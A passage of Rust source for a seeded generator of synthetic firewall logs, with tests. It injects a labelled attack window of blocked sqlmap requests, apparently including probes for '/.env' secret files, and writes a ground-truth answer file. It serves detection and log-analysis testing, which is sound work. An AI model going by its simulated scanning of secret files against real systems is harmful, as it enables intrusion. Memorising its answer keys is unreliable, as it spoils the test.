    b.push(b'"');
}

// ------------------------------------------------------------ emitting -----

const FLUSH_AT: usize = 1 << 20;
const BARE_JUNK: &[&[u8]] = &[b"\"garbage\"", b"[1,2]", b"42", b"null", b"\"\\u0000 bad\""];

/// Formats `Datetime`, caching the civil part of the current second.
struct Clock {
    fmt: TimeFormat,
    sec: i64,
    civil: Vec<u8>,
}

impl Clock {
    fn write(&mut self, b: &mut Vec<u8>, ns: i64) {
        if self.fmt == TimeFormat::UnixNano {
            push_i64(b, ns);
            return;
        }
        let sec = ns.div_euclid(1_000_000_000);
        if sec != self.sec || self.civil.is_empty() {
            self.sec = sec;
            self.civil.clear();
            let sep = if self.fmt == TimeFormat::Rfc3339 {
                b'T'
            } else {
                b' '
            };
            push_civil(&mut self.civil, sec, sep);
        }
        b.push(b'"');
        b.extend_from_slice(&self.civil);
        if self.fmt == TimeFormat::Rfc3339 {
            b.push(b'.');
            push_padded(b, ns.rem_euclid(1_000_000_000) as u64, 9);
            b.push(b'Z');
        }
        b.push(b'"');
    }
}

/// Per-event field writer over the immutable tables.
struct Emitter<'a> {
    s: &'a Synth,
    rng: Rng,
    clock: Clock,
}

impl Emitter<'_> {
    fn event(&mut self, b: &mut Vec<u8>, ns: i64, attack: bool) {
        let s = self.s;
        let (ipt, rule_i) = if attack {
            let k = s.attack.rule_cdf.sample(&mut self.rng);
            (&s.attack.ips, s.attack.rules[k])
        } else {
            (&s.ips, s.rule_cdf.sample(&mut self.rng))
        };
        let ii = ipt.cdf.sample(&mut self.rng);
        let meta = ipt.meta[ii];
        let asn = &s.asns[meta.asn as usize];
        let rule = &s.rules[rule_i];
        let action = if attack { BLOCK } else { self.action(rule) };
        b.extend_from_slice(b"{\"Action\":\"");
        b.extend_from_slice(ACTIONS[action as usize].as_bytes());
        b.extend_from_slice(b"\",\"ClientASN\":");
        b.extend_from_slice(&asn.frag);
        b.extend_from_slice(ipt.text.get(ii));
        b.extend_from_slice(b"\",\"ClientIPClass\":\"");
        b.extend_from_slice(IP_CLASSES[meta.class as usize].as_bytes());
        b.extend_from_slice(b"\",");
        let host = if attack {
            self.rng.idx(3)
        } else {
            s.hosts.sample(&mut self.rng)
        };
        self.referer(b, host, attack);
        b.extend_from_slice(b"\"ClientRequestHost\":\"");
        b.extend_from_slice(HOSTS[host].as_bytes());
        if attack {
            self.attack_request(b);
        } else {
            self.request(b, rule);
        }
        self.user_agent(b, attack, meta.home_ua);
        b.extend_from_slice(b",\"Datetime\":");
        self.clock.write(b, ns);
        b.extend_from_slice(&rule.frag_desc);
        let colos = &s.countries[asn.country as usize].colos;
        b.extend_from_slice(self.rng.pick(colos).as_bytes());
        self.tail(b, rule, action, attack);
    }

    fn action(&mut self, rule: &Rule) -> u8 {
        if self.rng.percent(85) {
            rule.pref_action
        } else {
            self.s.src_alts[rule.source].sample(&mut self.rng)
        }
    }

    fn referer(&mut self, b: &mut Vec<u8>, host: usize, attack: bool) {
        let r = self.rng.below(100);
        if attack || r < 55 {
            b.extend_from_slice(b"\"ClientRefererHost\":\"\",\"ClientRefererPath\":\"\",\"ClientRefererQuery\":\"\",\"ClientRefererScheme\":\"\",");
            return;
        }
        b.extend_from_slice(b"\"ClientRefererHost\":\"");
        if r < 85 {
            b.extend_from_slice(HOSTS[host].as_bytes());
            b.extend_from_slice(b"\",\"ClientRefererPath\":\"");
            let tpl = &self.s.paths[self.s.path_cdf.sample(&mut self.rng)];
            write_tpl(b, &tpl.tpl, &mut self.rng);
            b.extend_from_slice(b"\",\"ClientRefererQuery\":\"");
            if self.rng.percent(30) {
                self.query_from_set(b, Q_GEN);
            }
        } else {
            b.extend_from_slice(self.rng.pick(REF_HOSTS).as_bytes());
            b.extend_from_slice(b"\",\"ClientRefererPath\":\"/");
            if self.rng.percent(40) {
                b.extend_from_slice(b"search\",\"ClientRefererQuery\":\"q=");
                b.extend_from_slice(self.rng.pick(WORDS).as_bytes());
            } else {
                b.extend_from_slice(b"\",\"ClientRefererQuery\":\"");
            }
        }
        b.extend_from_slice(b"\",\"ClientRefererScheme\":\"https\",");
    }

    fn query_from_set(&mut self, b: &mut Vec<u8>, set: u8) {
        let (tpls, cdf) = &self.s.queries[set as usize];
        let k = cdf.sample(&mut self.rng);
        write_tpl(b, &tpls[k], &mut self.rng);
    }

    fn request(&mut self, b: &mut Vec<u8>, rule: &Rule) {
        let s = self.s;
        let tpl = &s.paths[s.path_cdf.sample(&mut self.rng)];
        let m = s.method_w[tpl.method as usize].sample(&mut self.rng);
        b.extend_from_slice(b"\",\"ClientRequestMethod\":\"");
        b.extend_from_slice(METHODS[m as usize].as_bytes());
        b.extend_from_slice(b"\",\"ClientRequestPath\":\"");
        write_tpl(b, &tpl.tpl, &mut self.rng);
        b.extend_from_slice(b"\",\"ClientRequestProtocol\":\"");
        let p = s.protocols.sample(&mut self.rng);
        b.extend_from_slice(PROTOCOLS[p as usize].as_bytes());
        b.extend_from_slice(b"\",\"ClientRequestQuery\":\"");
        let payloads = &s.payloads[rule.category as usize];
        if !payloads.is_empty() && self.rng.percent(40) {
            let t = self.rng.pick(payloads);
            write_tpl(b, t, &mut self.rng);
        } else {
            self.query_from_set(b, tpl.qset);
        }
        let scheme: &[u8] = if self.rng.percent(95) {
            b"https"
        } else {
            b"http"
        };
        b.extend_from_slice(b"\",\"ClientRequestScheme\":\"");
        b.extend_from_slice(scheme);
    }

    fn attack_request(&mut self, b: &mut Vec<u8>) {
        let (path, query) = self.rng.pick(&self.s.attack.reqs);
        let post = !query.is_empty() && self.rng.percent(20);
        b.extend_from_slice(b"\",\"ClientRequestMethod\":\"");
        b.extend_from_slice(if post { b"POST" } else { b"GET" });
        b.extend_from_slice(b"\",\"ClientRequestPath\":\"");
        write_tpl(b, path, &mut self.rng);
        b.extend_from_slice(b"\",\"ClientRequestProtocol\":\"HTTP/1.1\",\"ClientRequestQuery\":\"");
        write_tpl(b, query, &mut self.rng);
        b.extend_from_slice(b"\",\"ClientRequestScheme\":\"https");
    }

    fn user_agent(&mut self, b: &mut Vec<u8>, attack: bool, home: u32) {
        b.extend_from_slice(b"\",\"ClientRequestUserAgent\":\"");
        if attack {
            b.extend_from_slice(ATTACK_UA.as_bytes());
        } else {
            let ua = if self.rng.percent(75) {
                home as usize
            } else {
                self.s.ua_cdf.sample(&mut self.rng)
            };
            b.extend_from_slice(self.s.uas.get(ua));
        }
        b.push(b'"');
    }

    fn tail(&mut self, b: &mut Vec<u8>, rule: &Rule, action: u8, attack: bool) {
        let (edge, origin) = self.statuses(action, rule.source);
        b.extend_from_slice(b"\",\"EdgeResponseStatus\":");
        push_u64(b, edge);
        b.extend_from_slice(b",\"Kind\":\"firewall\",\"MatchIndex\":");
        let mi = if attack { 0 } else { self.match_index() };
        push_u64(b, mi);
        b.extend_from_slice(b",\"Metadata\":");
        b.extend_from_slice(&rule.meta);
        if rule.meta_dyn > 0 {
            push_u64(b, self.rng.range(1, rule.meta_dyn));
            b.extend_from_slice(b"\"}");
        }
        b.extend_from_slice(b",\"OriginResponseStatus\":");
        push_u64(b, origin);
        b.extend_from_slice(b",\"OriginatorRayID\":\"");
        if matches!(
            action,
            MC_NI | MC_I | CH_OK | JS_OK | CH_FAIL | JS_FAIL | CH_BYP
        ) {
            push_hex(b, self.rng.next_u64(), 16);
        } else {
            b.extend_from_slice(b"00");
        }
        b.extend_from_slice(b"\",\"RayID\":\"");
        push_hex(b, self.rng.next_u64(), 16);
        b.extend_from_slice(&rule.frag_tail);
    }

    fn match_index(&mut self) -> u64 {
        match self.rng.below(100) {
            0..=84 => 0,
            85..=94 => 1,
            95..=98 => 2,
            _ => 3,
        }
    }

    /// (EdgeResponseStatus, OriginResponseStatus) consistent with the action.
    fn statuses(&mut self, action: u8, source: usize) -> (u64, u64) {
        let name = SOURCES[source].name;
        match action {
            BLOCK | CHAL | MCH | CH_FAIL | JS_FAIL if name == "ratelimit" => (429, 0),
            JSCH => (503, 0),
            MCH | CHAL if name == "l7ddos" => (503, 0),
            BLOCK | CHAL | MCH | CH_FAIL | JS_FAIL => (403, 0),
            CLOSE => (0, 0),
            _ => {
                let o = self.origin_status();
                (o, o)
            }
        }
    }

    fn origin_status(&mut self) -> u64 {
        match self.rng.below(1000) {
            0..=859 => 200,
            860..=899 => 304,
            900..=939 => 404,
            940..=959 => 301,
            960..=979 => 302,
            980..=989 => 500,
            990..=994 => 502,
            _ => 401,
        }
    }
}

/// One `write_events` call: buffers, counters, line numbering.
struct Run<'a, 'o, 't> {
    em: Emitter<'a>,
    out: &'o mut dyn Write,
    truth: Option<&'t mut dyn Write>,
    buf: Vec<u8>,
    tbuf: Vec<u8>,
    keys: Vec<u64>,
    line: u64,
    events: u64,
    bytes: u64,
    attack_events: u64,
    malformed: Vec<u64>,
}

impl<'a, 'o, 't> Run<'a, 'o, 't> {
    fn new(s: &'a Synth, out: &'o mut dyn Write, truth: Option<&'t mut dyn Write>) -> Self {
        Run {
            em: Emitter {
                s,
                rng: Rng::new(s.cfg.seed, ST_EVENTS),
                clock: Clock {
                    fmt: s.cfg.time_format,
                    sec: 0,
                    civil: Vec::new(),
                },
            },
            out,
            truth,
            buf: Vec::with_capacity(FLUSH_AT + 64 * 1024),
            tbuf: Vec::with_capacity(64 * 1024),
            keys: Vec::new(),
            line: 0,
            events: 0,
            bytes: 0,
            attack_events: 0,
            malformed: Vec::new(),
        }
    }

    fn all_minutes(&mut self) -> io::Result<()> {
        let s = self.em.s;
        let att = &s.attack;
        let normal = s.cfg.events - if att.enabled { att.count } else { 0 };
        let wsum: u128 = s.minute_w.iter().map(|&w| u128::from(w)).sum();
        let mut nalloc = Alloc::new(normal, wsum);
        let asum: u128 = (0..att.minutes)
            .map(|i| u128::from(attack_weight(i, att.minutes)))
            .sum();
        let mut aalloc = Alloc::new(if att.enabled { att.count } else { 0 }, asum);
        let base = s.cfg.start_unix_s * 1_000_000_000;
        for (m, &w) in s.minute_w.iter().enumerate() {
            let m = m as u64;
            let n = nalloc.take(u64::from(w));
            let a = if m >= att.start_min && m < att.start_min + att.minutes {
                aalloc.take(attack_weight(m - att.start_min, att.minutes))
            } else {
                0
            };
            self.minute(base + m as i64 * 60_000_000_000, n, a)?;
        }
        Ok(())
    }

    fn minute(&mut self, t0: i64, normal: u64, attack: u64) -> io::Result<()> {
        self.keys.clear();
        let rng = &mut self.em.rng;
        self.keys
            .extend((0..normal).map(|_| rng.below(60_000_000_000) << 1));
        self.keys
            .extend((0..attack).map(|_| rng.below(60_000_000_000) << 1 | 1));
        self.keys.sort_unstable();
        let keys = std::mem::take(&mut self.keys);
        let res = keys
            .iter()
            .try_for_each(|&k| self.one(t0 + (k >> 1) as i64, k & 1 == 1));
        self.keys = keys;
        res
    }

    fn one(&mut self, ns: i64, attack: bool) -> io::Result<()> {
        let start = self.buf.len();
        self.em.event(&mut self.buf, ns, attack);
        self.buf.push(b'\n');
        self.line += 1;
        self.events += 1;
        if attack {
            self.attack_events += 1;
            push_u64(&mut self.tbuf, self.line);
            self.tbuf.push(b'\n');
        }
        let every = self.em.s.cfg.malformed_every;
        if every > 0 && self.events % every == every / 2 {
            self.malformed_line(start);
        }
        if self.buf.len() >= FLUSH_AT {
            self.flush()?;
        }
        Ok(())
    }

    /// Alternates a truncated copy of the previous event and a bare non-object.
    fn malformed_line(&mut self, prev_start: usize) {
        self.line += 1;
        let k = self.malformed.len();
        self.malformed.push(self.line);
        if k.is_multiple_of(2) {
            let prev_len = self.buf.len() - 1 - prev_start;
            let mut cut = prev_start + prev_len / 2;
            while cut > prev_start + 1
                && (self.buf[cut] & 0xC0 == 0x80 || self.buf[cut - 1] == b'}')
            {
                cut -= 1;
            }
            self.buf.extend_from_within(prev_start..cut);
        } else {
            self.buf
                .extend_from_slice(BARE_JUNK[(k / 2) % BARE_JUNK.len()]);
        }
        self.buf.push(b'\n');
    }

    fn flush(&mut self) -> io::Result<()> {
        self.out.write_all(&self.buf)?;
        self.bytes += self.buf.len() as u64;
        self.buf.clear();
        if let Some(t) = self.truth.as_mut() {
            t.write_all(&self.tbuf)?;
        }
        self.tbuf.clear();
        Ok(())
    }

    fn finish(mut self) -> io::Result<SynthSummary> {
        self.flush()?;
        self.out.flush()?;
        if let Some(t) = self.truth.as_mut() {
            t.flush()?;
        }
        let (attack_start_ns, attack_end_ns) = self.em.s.window_ns();
        Ok(SynthSummary {
            events: self.events,
            lines: self.line,
            bytes: self.bytes,
            malformed_lines: self.malformed,
            attack_events: self.attack_events,
            attack_start_ns,
            attack_end_ns,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    // ---- a tiny strict JSON parser, enough to validate every line ----

    #[derive(Debug, Clone, PartialEq)]
    enum J {
        Null,
        Bool(bool),
        Num(String),
        Str(String),
        Arr(Vec<J>),
        Obj(Vec<(String, J)>),
    }

    impl J {
        fn get(&self, key: &str) -> Option<&J> {
            match self {
                J::Obj(kv) => kv.iter().find(|(k, _)| k == key).map(|(_, v)| v),
                _ => None,
            }
        }
        fn s(&self, key: &str) -> String {
            match self.get(key) {
                Some(J::Str(s)) => s.clone(),
                other => panic!("{key} not a string: {other:?}"),
            }
        }
        fn n(&self, key: &str) -> i128 {
            match self.get(key) {
                Some(J::Num(n)) => n.parse().expect("integer"),
                other => panic!("{key} not a number: {other:?}"),
            }
        }
    }

    struct P<'a> {
        b: &'a [u8],
        i: usize,
    }

    impl P<'_> {
        fn ws(&mut self) {
            while self.i < self.b.len() && b" \t\r\n".contains(&self.b[self.i]) {
                self.i += 1;
            }
        }
        fn peek(&self) -> Option<u8> {
            self.b.get(self.i).copied()
        }
        fn eat(&mut self, c: u8) -> Result<(), String> {
            self.ws();
            if self.peek() == Some(c) {
                self.i += 1;
                Ok(())
            } else {
                Err(format!("expected {} at {}", c as char, self.i))
            }
        }
        fn lit(&mut self, w: &str, v: J) -> Result<J, String> {
            if self.b[self.i..].starts_with(w.as_bytes()) {
                self.i += w.len();
                Ok(v)
            } else {
                Err(format!("bad literal at {}", self.i))
            }
        }
        fn value(&mut self) -> Result<J, String> {
            self.ws();
            match self.peek() {
                Some(b'{') => self.object(),
                Some(b'[') => self.array(),
                Some(b'"') => self.string().map(J::Str),
                Some(b't') => self.lit("true", J::Bool(true)),
                Some(b'f') => self.lit("false", J::Bool(false)),
                Some(b'n') => self.lit("null", J::Null),
                Some(c) if c == b'-' || c.is_ascii_digit() => self.number(),
                _ => Err(format!("unexpected at {}", self.i)),
            }
        }
        fn number(&mut self) -> Result<J, String> {
            let st = self.i;
            if self.peek() == Some(b'-') {
                self.i += 1;
            }
            let d0 = self.i;
            while self.peek().is_some_and(|c| c.is_ascii_digit()) {
                self.i += 1;
            }
            if self.i == d0 || (self.b[d0] == b'0' && self.i - d0 > 1) {
                return Err("bad number".into());
            }
            if matches!(self.peek(), Some(b'.' | b'e' | b'E')) {
                return Err("only integers expected".into());
            }
            Ok(J::Num(
                String::from_utf8_lossy(&self.b[st..self.i]).into_owned(),
            ))
        }
        fn hex4(&mut self) -> Result<u32, String> {
            let h = self.b.get(self.i..self.i + 4).ok_or("short \\u")?;
            let s = std::str::from_utf8(h).map_err(|e| e.to_string())?;
            self.i += 4;
            u32::from_str_radix(s, 16).map_err(|e| e.to_string())
        }
        fn string(&mut self) -> Result<String, String> {
            self.eat(b'"')?;
            let mut out = Vec::new();
            loop {
                let c = self.peek().ok_or("unterminated string")?;
                self.i += 1;
                match c {
                    b'"' => break,
                    b'\\' => {
                        let e = self.peek().ok_or("bad escape")?;
                        self.i += 1;
                        match e {
                            b'"' | b'\\' | b'/' => out.push(e),
                            b'n' => out.push(b'\n'),
                            b'r' => out.push(b'\r'),
                            b't' => out.push(b'\t'),
                            b'b' => out.push(8),
                            b'f' => out.push(12),
                            b'u' => {
                                let cp = self.hex4()?;
                                let ch = char::from_u32(cp).ok_or("surrogate")?;
                                out.extend_from_slice(ch.to_string().as_bytes());
                            }
                            _ => return Err("bad escape".into()),
                        }
                    }
                    c if c < 0x20 => return Err("raw control char in string".into()),
                    c => out.push(c),
                }
            }
            String::from_utf8(out).map_err(|e| e.to_string())
        }
        fn array(&mut self) -> Result<J, String> {
            self.eat(b'[')?;
            let mut v = Vec::new();
            self.ws();
            if self.peek() == Some(b']') {
                self.i += 1;
                return Ok(J::Arr(v));
            }
            loop {
                v.push(self.value()?);
                self.ws();
                match self.peek() {
                    Some(b',') => self.i += 1,
                    Some(b']') => {
                        self.i += 1;
                        return Ok(J::Arr(v));
                    }
                    _ => return Err("bad array".into()),
                }
            }
        }
        fn object(&mut self) -> Result<J, String> {
            self.eat(b'{')?;
            let mut kv = Vec::new();
            self.ws();
            if self.peek() == Some(b'}') {
                self.i += 1;
                return Ok(J::Obj(kv));
            }
            loop {
                self.ws();
                let k = self.string()?;
                self.eat(b':')?;
                kv.push((k, self.value()?));
                self.ws();
                match self.peek() {
                    Some(b',') => self.i += 1,
                    Some(b'}') => {
                        self.i += 1;
                        return Ok(J::Obj(kv));
                    }
                    _ => return Err(format!("bad object at {}", self.i)),
                }
            }
        }
    }

    /// Parses a whole line as one JSON object.
    fn parse_obj(line: &[u8]) -> Result<J, String> {
        let mut p = P { b: line, i: 0 };
        let v = p.value()?;
        p.ws();
        if p.i != line.len() {
            return Err("trailing bytes".into());
        }
        match v {
            J::Obj(_) => Ok(v),
            _ => Err("not an object".into()),
        }
    }

    const KEYS: [&str; 30] = [
        "Action",
        "ClientASN",
        "ClientASNDescription",
        "ClientCountry",
        "ClientIP",
        "ClientIPClass",
        "ClientRefererHost",
        "ClientRefererPath",
        "ClientRefererQuery",
        "ClientRefererScheme",
        "ClientRequestHost",
        "ClientRequestMethod",
        "ClientRequestPath",
        "ClientRequestProtocol",
        "ClientRequestQuery",
        "ClientRequestScheme",
        "ClientRequestUserAgent",
        "Datetime",
        "Description",
        "EdgeColoCode",
        "EdgeResponseStatus",
        "Kind",
        "MatchIndex",
        "Metadata",
        "OriginResponseStatus",
        "OriginatorRayID",
        "RayID",
        "Ref",
        "RuleID",
        "Source",
    ];

    fn small(events: u64) -> SynthConfig {
        SynthConfig {
            events,
            rules: 800,
            ips: 20_000,
            user_agents: 500,
            malformed_every: 997,
            ..SynthConfig::default()
        }
    }

    fn generate(cfg: SynthConfig) -> (Vec<u8>, Vec<u8>, SynthSummary, Synth) {
        let mut s = Synth::new(cfg);
        let mut out = Vec::new();
        let mut truth = Vec::new();
        let sum = s
            .write_events(&mut out, Some(&mut truth as &mut dyn Write))
            .expect("write to Vec");
        (out, truth, sum, s)
    }

    fn lines(out: &[u8]) -> Vec<&[u8]> {
        assert_eq!(out.last(), Some(&b'\n'));
        out[..out.len() - 1].split(|&c| c == b'\n').collect()
    }

    fn truth_set(truth: &[u8]) -> Vec<u64> {
        String::from_utf8_lossy(truth)
            .lines()
            .map(|l| l.parse().expect("line number"))
            .collect()
    }

    #[test]
    fn deterministic_same_seed_and_differs_by_seed() {
        let (a, ta, sa, mut s) = generate(small(20_000));
        let (b, tb, sb, _) = generate(small(20_000));
        assert_eq!(a, b);
        assert_eq!(ta, tb);
        assert_eq!(sa, sb);
        let mut again = Vec::new();
        s.write_events(&mut again, None).expect("write");
        assert_eq!(a, again, "repeat call on the same Synth");
        let (c, _, _, _) = generate(SynthConfig {
            seed: 7,
            ..small(20_000)
        });
        assert_ne!(a, c);
        let mut m1 = Vec::new();
        let mut m2 = Vec::new();
        s.write_rule_map(&mut m1).expect("map");
        Synth::new(small(20_000))
            .write_rule_map(&mut m2)
            .expect("map");
        assert_eq!(m1, m2);
    }

    #[test]
    fn every_line_is_an_object_and_malformed_lines_are_where_reported() {
        let (out, _, sum, _) = generate(small(20_000));
        let ls = lines(&out);
        assert_eq!(ls.len() as u64, sum.lines);
        assert_eq!(sum.bytes, out.len() as u64);
        assert_eq!(sum.events, 20_000);
        assert_eq!(sum.lines, sum.events + sum.malformed_lines.len() as u64);
        assert_eq!(sum.malformed_lines.len(), 20);
        for (i, l) in ls.iter().enumerate() {
            let no = i as u64 + 1;
            if sum.malformed_lines.contains(&no) {
                assert!(parse_obj(l).is_err(), "line {no} should be malformed");
                continue;
            }
            assert!(l.starts_with(b"{") && l.ends_with(b"}"), "line {no}");
            assert!(l.windows(9).any(|w| w == b"\"RuleID\":"), "line {no}");
            let v = parse_obj(l)
                .unwrap_or_else(|e| panic!("line {no}: {e}: {}", String::from_utf8_lossy(l)));
            let J::Obj(kv) = &v else { unreachable!() };
            let keys: Vec<&str> = kv.iter().map(|(k, _)| k.as_str()).collect();
            assert_eq!(keys, KEYS, "line {no}");
            assert!(matches!(v.get("Metadata"), Some(J::Obj(_))));
            assert_eq!(v.s("Kind"), "firewall");
            assert_eq!(v.s("RayID").len(), 16);
        }
        // both malformed shapes occur
        let first = ls[sum.malformed_lines[0] as usize - 1];
        let second = ls[sum.malformed_lines[1] as usize - 1];
        assert!(first.starts_with(b"{") && !first.ends_with(b"}"));
        assert!(!second.starts_with(b"{"));
    }

    #[test]
    fn malformed_disabled() {
        let (out, _, sum, _) = generate(SynthConfig {
            malformed_every: 0,
            ..small(5_000)
        });
        assert!(sum.malformed_lines.is_empty());
        assert!(lines(&out).iter().all(|l| parse_obj(l).is_ok()));
    }

    fn datetimes(out: &[u8], sum: &SynthSummary) -> Vec<J> {
        lines(out)
            .iter()
            .enumerate()
            .filter(|(i, _)| !sum.malformed_lines.contains(&(*i as u64 + 1)))
            .map(|(_, l)| {
                parse_obj(l)
                    .expect("object")
                    .get("Datetime")
                    .cloned()
                    .expect("Datetime")
            })
            .collect()
    }

    #[test]
    fn times_nondecreasing_in_all_formats() {
        let cfg = small(20_000);
        let start = cfg.start_unix_s as i128 * 1_000_000_000;
        let end = start + i128::from(cfg.days) * 86_400 * 1_000_000_000;
        let (out, _, sum, _) = generate(cfg.clone());
        let ns: Vec<i128> = datetimes(&out, &sum)
            .into_iter()
            .map(|j| match j {
                J::Num(n) => n.parse().expect("int"),
                other => panic!("{other:?}"),
            })
            .collect();
        assert!(ns.windows(2).all(|w| w[0] <= w[1]));
        assert!(ns[0] >= start && *ns.last().expect("events") < end);
        assert!(ns.iter().any(|&t| t > 1 << 53 && t % 1000 != 0));
        for fmt in [TimeFormat::Rfc3339, TimeFormat::DateTime] {
            let (out, _, sum, _) = generate(SynthConfig {
                time_format: fmt,
                ..cfg.clone()
            });
            let ts: Vec<String> = datetimes(&out, &sum)
                .into_iter()
                .map(|j| match j {
                    J::Str(s) => s,
                    other => panic!("{other:?}"),
                })
                .collect();
            let want_len = if fmt == TimeFormat::Rfc3339 { 30 } else { 19 };
            assert!(ts.iter().all(|t| t.len() == want_len), "{}", ts[0]);
            assert!(ts.windows(2).all(|w| w[0] <= w[1]));
            assert!(ts[0].starts_with("2024-06-0"), "{}", ts[0]);
        }
    }

    #[test]
    fn attack_events_inside_window_and_counted() {
        let (out, truth, sum, s) = generate(small(40_000));
        let truth = truth_set(&truth);
        assert_eq!(sum.attack_events, 200);
        assert_eq!(truth.len() as u64, sum.attack_events);
        assert!(sum.attack_end_ns - sum.attack_start_ns == 120 * 60_000_000_000);
        let span = i64::from(s.cfg.days) * 86_400_000_000_000;
        let s0 = s.cfg.start_unix_s * 1_000_000_000;
        assert_eq!(
            sum.attack_start_ns,
            s0 + (span * 2 / 5) / 60_000_000_000 * 60_000_000_000
        );
        let ls = lines(&out);
        let mut in_window_normal = 0;
        for (i, l) in ls.iter().enumerate() {
            let no = i as u64 + 1;
            let Ok(v) = parse_obj(l) else { continue };
            let t = v.n("Datetime") as i64;
            let is_attack = truth.binary_search(&no).is_ok();
            let sqlmap = v.s("ClientRequestUserAgent").starts_with("sqlmap/");
            assert_eq!(is_attack, sqlmap, "line {no}");
            let inside = t >= sum.attack_start_ns && t < sum.attack_end_ns;
            if is_attack {
                assert!(inside, "attack line {no} outside window");
                assert_eq!(v.s("Action"), "block");
                assert_eq!(v.n("EdgeResponseStatus"), 403);
            } else if inside {
                in_window_normal += 1;
            }
        }
        assert!(
            in_window_normal > 50,
            "normal traffic continues in the window"
        );
        let d = s.attack_description();
        assert!(d.contains("sqlmap/1.7.2") && d.contains("/.env") && d.contains("2024-06-"));
    }

    #[test]
    fn attack_can_be_disabled() {
        let (out, truth, sum, s) = generate(SynthConfig {
            attack: false,
            ..small(5_000)
        });
        assert_eq!(sum.attack_events, 0);
        assert!(truth.is_empty());
        assert_eq!((sum.attack_start_ns, sum.attack_end_ns), (0, 0));
        assert!(!out.windows(7).any(|w| w == b"sqlmap/"));
        assert!(s.attack_description().contains("disabled"));
    }

    /// RFC 4180 parsing of one record per line (no embedded newlines here).
    fn csv_row(line: &str) -> Vec<String> {
        let mut out = Vec::new();
        let mut cur = String::new();
        let mut quoted = false;
        let mut chars = line.chars().peekable();
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    cur.push('"');
                    chars.next();
                }
                (true, '"') => quoted = false,
                (false, '"') if cur.is_empty() => quoted = true,
                (false, ',') => out.push(std::mem::take(&mut cur)),
                (_, c) => cur.push(c),
            }
        }
        out.push(cur);
        out
    }

    #[test]
    fn rule_map_header_and_coverage() {
        let (out, _, sum, s) = generate(SynthConfig {
            rules: 3000,
            ..small(60_000)
        });
        let mut map = Vec::new();
        s.write_rule_map(&mut map).expect("map");
        let text = String::from_utf8(map).expect("utf8");
        let mut it = text.lines();
        assert_eq!(it.next(), Some("rule_id,description,category,severity"));
        let mut ids = HashSet::new();
        let mut quoted = 0;
        for l in it {
            let row = csv_row(l);
            assert_eq!(row.len(), 4, "{l}");
            assert!(CATEGORIES.contains(&row[2].as_str()), "{l}");
            assert!(SEVERITIES.contains(&row[3].as_str()), "{l}");
            quoted += usize::from(l.contains('"'));
            assert!(ids.insert(row[0].clone()), "duplicate id {}", row[0]);
        }
        assert!(quoted > 0, "some descriptions need RFC 4180 quoting");
        let mut used = HashSet::new();
        let mut descs = std::collections::HashMap::new();
        for (i, l) in lines(&out).iter().enumerate() {
            if sum.malformed_lines.contains(&(i as u64 + 1)) {
                continue;
            }
            let v = parse_obj(l).expect("object");
            descs.insert(v.s("RuleID"), v.s("Description"));
            used.insert(v.s("RuleID"));
        }
        let covered = used.iter().filter(|id| ids.contains(*id)).count();
        let frac = covered as f64 / used.len() as f64;
        assert!((0.9..0.99).contains(&frac), "coverage {frac}");
        assert!(used.len() > 1000, "rules used {}", used.len());
        assert!(
            ids.iter().any(|id| !used.contains(id)),
            "map has extra rows"
        );
        let numeric = used.iter().filter(|id| id.len() == 6).count();
        let hex = used.iter().filter(|id| id.len() == 32).count();
        assert!(numeric > 100 && hex > 500 && numeric + hex == used.len());
        // descriptions agree between the map and the events
        for l in text.lines().skip(1) {
            let row = csv_row(l);
            if let Some(d) = descs.get(&row[0]) {
                assert_eq!(d, &row[1]);
            }
        }
    }

    #[test]
    fn status_follows_action_and_sizes_are_realistic() {
        let (out, _, sum, _) = generate(small(20_000));
        let mut bytes = 0usize;
        let mut n = 0usize;
        let mut actions = HashSet::new();
        let mut v6 = 0;
        for (i, l) in lines(&out).iter().enumerate() {
            if sum.malformed_lines.contains(&(i as u64 + 1)) {
                continue;
            }
            bytes += l.len() + 1;
            n += 1;
            let v = parse_obj(l).expect("object");
            let a = v.s("Action");
            let (e, o) = (v.n("EdgeResponseStatus"), v.n("OriginResponseStatus"));
            match a.as_str() {
                "block" | "challenge" | "managedchallenge" => {
                    assert!([403, 429, 503].contains(&e) && o == 0, "{a} {e}")
                }
                "jschallenge" => assert_eq!((e, o), (503, 0)),
                "allow" | "log" | "skip" | "bypass" => assert!(e == o && (200..600).contains(&e)),
                _ => {}
            }
            v6 += usize::from(v.s("ClientIP").contains(':'));
            actions.insert(a);
        }
        let avg = bytes / n;
        // ~570 B of the line are key names, quotes and punctuation alone.
        assert!((850..=1100).contains(&avg), "avg line {avg}");
        assert!(actions.len() >= 10, "{actions:?}");
        let share = v6 * 100 / n;
        assert!((5..=30).contains(&share), "v6 share {share}%");
    }

    #[test]
    fn skew_and_cardinalities() {
        let (out, _, sum, _) = generate(SynthConfig {
            ips: 300_000,
            ..small(50_000)
        });
        let mut ips = std::collections::HashMap::<String, u32>::new();
        let mut paths = HashSet::new();
        let mut countries = HashSet::new();
        let mut asns = HashSet::new();
        let mut n = 0u32;
        for (i, l) in lines(&out).iter().enumerate() {
            if sum.malformed_lines.contains(&(i as u64 + 1)) {
                continue;
            }
            let v = parse_obj(l).expect("object");
            *ips.entry(v.s("ClientIP")).or_default() += 1;
            paths.insert(v.s("ClientRequestPath"));
            countries.insert(v.s("ClientCountry"));
            asns.insert(v.n("ClientASN"));
            n += 1;
        }
        let top = ips.values().copied().max().unwrap_or(0);
        assert!(top * 100 > n * 2, "heaviest IP has >2% of events");
        assert!(ips.len() > 15_000, "distinct ips {}", ips.len());
        let uniq = paths.len() as f64 / f64::from(n);
        assert!((0.2..0.5).contains(&uniq), "distinct path share {uniq}");
        assert!(countries.len() > 100, "countries {}", countries.len());
        assert!(asns.len() > 200, "asns {}", asns.len());
    }

    #[test]
    fn escaping_round_trips() {
        let nasty = "a\"b\\c\n\r\t\u{1}\u{8}\u{c}\u{1f} é 漢 /";
        let mut b = b"{\"k\":\"".to_vec();
        escape_into(&mut b, nasty);
        b.extend_from_slice(b"\"}");
        let v = parse_obj(&b).expect("valid");
        assert_eq!(v.s("k"), nasty);
    }

    #[test]
    fn number_and_date_formatting() {
        let mut rng = Rng::new(1, 1);
        for _ in 0..10_000 {
            let v = rng.next_u64() >> rng.below(64);
            let mut b = Vec::new();
            push_u64(&mut b, v);
            assert_eq!(b, v.to_string().as_bytes());
            let mut b = Vec::new();
            push_i64(&mut b, -(v as i64 >> 1));
            assert_eq!(b, (-(v as i64 >> 1)).to_string().as_bytes());
        }
